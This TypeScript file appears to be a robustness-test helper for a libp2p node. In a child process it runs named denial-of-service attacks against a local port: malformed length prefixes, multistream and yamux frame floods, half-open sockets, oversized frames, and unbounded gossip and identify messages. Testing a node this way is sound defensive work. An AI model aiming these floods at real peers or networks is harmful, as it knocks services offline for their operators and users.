// Attacks of one stranger on the port of a node, each until it is ended. Runs in a process of its own.
import { connect, type Socket } from 'node:net'
import { setPriority } from 'node:os'
import { setImmediate as turn } from 'node:timers/promises'
import { type MessageStream } from '@libp2p/interface'
import { type Muxed, openBoth } from './muxed-connection.ts'

/** Connections that one attack holds at a time. */
const CONNECTIONS = 8
/** Work between two turns of its own event loop. */
const BURST = 64

const ONES = Buffer.alloc(2 ** 16, 0xff)
const ZEROS = Buffer.alloc(2 ** 16)

function line(text: string): Uint8Array {
  return Buffer.from(`${String.fromCharCode(text.length + 1)}${text}\n`, 'latin1')
}

const HEADER = line('/multistream/1.0.0')

const DATA = 0
const WINDOW_UPDATE = 1
const PING = 2
const SYN = 1
const RST = 8

function frame(type: number, flags: number, streamId: number, length: number): Uint8Array {
  const bytes = Buffer.alloc(12)
  bytes.writeUInt8(type, 1)
  bytes.writeUInt16BE(flags, 2)
  bytes.writeUInt32BE(streamId, 4)
  bytes.writeUInt32BE(length, 8)
  return bytes
}

function opening(streamId: number, bytes: Uint8Array): Uint8Array {
  return Buffer.concat([frame(DATA, SYN, streamId, bytes.length), bytes])
}

/** A socket that is replaced when it has closed; errors are what an attacker expects. */
async function openSocket(port: number): Promise<Socket> {
  const socket = connect({ host: '127.0.0.1', port })
  socket.on('error', () => undefined)
  socket.resume()
  await new Promise((resolve) => {
    socket.once('connect', resolve)
    socket.once('close', resolve)
  })
  return socket
}

async function untilDrained(socket: Socket): Promise<void> {
  if (socket.destroyed || !socket.writableNeedDrain) return
  await new Promise((resolve) => {
    socket.once('drain', resolve)
    socket.once('close', resolve)
  })
}

async function openMuxed(address: string): Promise<MessageStream> {
  return (await openBoth(address)).connection
}

/** Goes on until its process is ended. */
type Attack = (address: string) => Promise<void>

/** Repeats `step` on raw sockets for ever; a closed one is opened again. */
function onSockets(
  first: Uint8Array,
  step: (socket: Socket) => void,
  connections = CONNECTIONS
): Attack {
  return async (address) => {
    const port = Number(/\/tcp\/(\d+)/.exec(address)?.[1])
    const one = async () => {
      for (;;) {
        const socket = await openSocket(port)
        socket.write(first)
        while (!socket.destroyed) {
          step(socket)
          await untilDrained(socket)
          await turn()
        }
      }
    }
    await Promise.all(Array.from({ length: connections }, one))
  }
}

/** Repeats `step` on connections after their handshake for ever; a closed one is opened again. */
function onMuxed(
  step: (connection: MessageStream, round: number) => void,
  connections = 4,
  pick: (muxed: Muxed) => MessageStream = ({ connection }) => connection
): Attack {
  return async (address) => {
    const one = async () => {
      for (;;) {
        const muxed = await openBoth(address).catch(() => undefined)
        const connection = muxed && pick(muxed)
        for (let round = 0; connection?.status === 'open'; round++) {
          try {
            step(connection, round)
            if (connection.writableNeedsDrain) {
              await connection.onDrain({ signal: AbortSignal.timeout(200) })
            }
          } catch {
            await turn() // it was closed, or takes nothing for now
          }
          await turn()
        }
        await turn()
      }
    }
    await Promise.all(Array.from({ length: connections }, one))
  }
}

const idFor = (round: number, index: number) => 1 + 2 * (round * BURST + index)

function burst(make: (index: number) => Uint8Array): Uint8Array {
  return Buffer.concat(Array.from({ length: BURST }, (_, index) => make(index)))
}

/** By name. */
const ATTACKS = {
  'length-without-end': onSockets(new Uint8Array(), (socket) => socket.write(ONES)),
  'negotiation-without-end': onSockets(HEADER, (socket) =>
    socket.write(burst(() => line('/no/such/protocol')))
  ),
  'half-open': onSockets(
    new Uint8Array(),
    (socket) => {
      if (Math.random() < 0.02) socket.destroy()
    },
    300
  ),
  'trickled-noise': onSockets(
    Buffer.concat([HEADER, line('/noise'), Buffer.from([0xff, 0xff])]),
    (socket) => socket.write(Buffer.of(1)),
    100
  ),
  handshakes: async (address) => {
    const one = async () => {
      for (;;) {
        const connection = await openMuxed(address).catch(() => undefined)
        connection?.abort(new Error('and again'))
        await turn()
      }
    }
    await Promise.all(Array.from({ length: CONNECTIONS }, one))
  },
  /** Each two bytes are the length of a message of noise without a byte. */
  'empty-noise-messages': onMuxed(
    (below) => {
      below.send(ZEROS)
    },
    4,
    ({ below }) => below
  ),
  'small-noise-messages': onMuxed((connection) => {
    for (let sent = 0; sent < BURST; sent++) connection.send(Uint8Array.of(0))
  }),
  'stream-length-without-end': onMuxed((connection, round) => {
    connection.send(opening(idFor(round, 0), ONES))
  }),
  'yamux-pings': onMuxed((connection, round) => {
    connection.send(burst((index) => frame(PING, SYN, 0, round * BURST + index)))
  }),
  'windows-of-zero': onMuxed((connection) => {
    connection.send(burst(() => frame(WINDOW_UPDATE, 0, 1, 0)))
  }),
  'streams-opened': onMuxed((connection, round) => {
    connection.send(burst((index) => frame(WINDOW_UPDATE, SYN, idFor(round, index), 0)))
  }),
  'streams-opened-and-reset': onMuxed((connection, round) => {
    connection.send(
      burst((index) =>
        Buffer.concat([
          opening(idFor(round, index), Buffer.concat([HEADER, line('/ipfs/ping/1.0.0')])),
          frame(WINDOW_UPDATE, RST, idFor(round, index), 0)
        ])
      )
    )
  }),
  'small-frames': onMuxed((connection, round) => {
    if (round === 0) {
      connection.send(opening(1, Buffer.concat([HEADER, line('/meshsub/1.1.0')])))
    }
    connection.send(burst(() => Buffer.concat([frame(DATA, 0, 1, 1), Buffer.of(0)])))
  }),
  'giant-frame': onMuxed((connection, round) => {
    connection.send(round === 0 ? frame(DATA, SYN, 1, 2 ** 32 - 1) : ONES)
  }),
  'gossip-without-end': onMuxed((connection, round) => {
    if (round === 0) {
      const length = Buffer.from([0xff, 0xff, 0xff, 0x04])
      connection.send(opening(1, Buffer.concat([HEADER, line('/meshsub/1.1.0'), length])))
    } else if (round < 150) {
      connection.send(Buffer.concat([frame(DATA, 0, 1, ONES.length), ONES]))
    }
  }, 90),
  'pings-unread': onMuxed((connection, round) => {
    if (round === 0) {
      connection.send(opening(1, Buffer.concat([HEADER, line('/ipfs/ping/1.0.0')])))
    }
    connection.send(Buffer.concat([frame(DATA, 0, 1, ONES.length), ONES]))
  }),
  /** Answers whatever the node asks, identify among it, with a length that does not end. */
  'answers-without-end': async (address) => {
    const one = async () => {
      for (;;) {
        const connection = await openMuxed(address).catch(() => undefined)
        for (let round = 0; connection?.status === 'open' && round < 10_000; round++) {
          const streamId = 2 + 2 * (round % 4)
          const answer =
            round < 4 ? Buffer.concat([HEADER, line('/ipfs/id/1.0.0')]) : ONES.subarray(0, 2 ** 12)
          try {
            connection.send(Buffer.concat([frame(DATA, 0, streamId, answer.length), answer]))
          } catch {
            break // it was closed
          }
          await turn()
        }
        await turn()
      }
    }
    await Promise.all(Array.from({ length: 4 }, one))
  }
} as const satisfies Record<string, Attack>

/** The attacks there are. */
export type AttackName = keyof typeof ATTACKS

/** All of them. */
export const ATTACK_NAMES = Object.keys(ATTACKS) as readonly AttackName[]

/** A child process is told the names of attacks, with commas between them, and the address. */
if (process.send !== undefined) {
  const [names = '', address = ''] = process.argv.slice(2)
  const attacks = names.split(',').map((name) => {
    const attack = ATTACK_NAMES.find((known) => known === name)
    if (attack === undefined) throw new Error(`there is no attack ${name}`)
    return ATTACKS[attack]
  })
  setPriority(19)
  process.on('disconnect', () => process.exit())
  process.send('begun')
  await Promise.all(attacks.map((attack) => attack(address)))
}
